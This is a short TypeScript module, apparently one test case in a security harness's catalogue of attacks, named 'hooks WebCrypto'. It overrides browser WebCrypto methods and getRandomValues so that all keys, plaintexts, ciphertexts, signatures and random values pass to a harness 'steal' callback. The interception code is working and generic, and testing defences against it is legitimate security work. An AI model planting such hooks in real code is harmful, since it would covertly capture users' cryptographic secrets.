import { attack } from "../attack.js";

export default attack({
  name: "hooks WebCrypto",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const latin1 = (value: unknown) => {
      const bytes =
        value instanceof ArrayBuffer
          ? new Uint8Array(value)
          : ArrayBuffer.isView(value)
            ? new Uint8Array(value.buffer, value.byteOffset, value.byteLength)
            : new Uint8Array();
      return Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");
    };
    for (const method of ["digest", "encrypt", "decrypt", "importKey", "sign", "deriveBits"] as const) {
      const original = SubtleCrypto.prototype[method] as (...args: unknown[]) => Promise<unknown>;
      SubtleCrypto.prototype[method] = async function (this: SubtleCrypto, ...args: unknown[]) {
        it.steal(...args.map(latin1));
        const result = await original.apply(this, args);
        it.steal(latin1(result));
        return result;
      } as never;
    }
    const { getRandomValues } = Crypto.prototype;
    Crypto.prototype.getRandomValues = function (array) {
      const filled = getRandomValues.call(this, array);
      const base64 = btoa(latin1(filled));
      it.steal(base64.replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""));
      return filled as never;
    };
  },
});
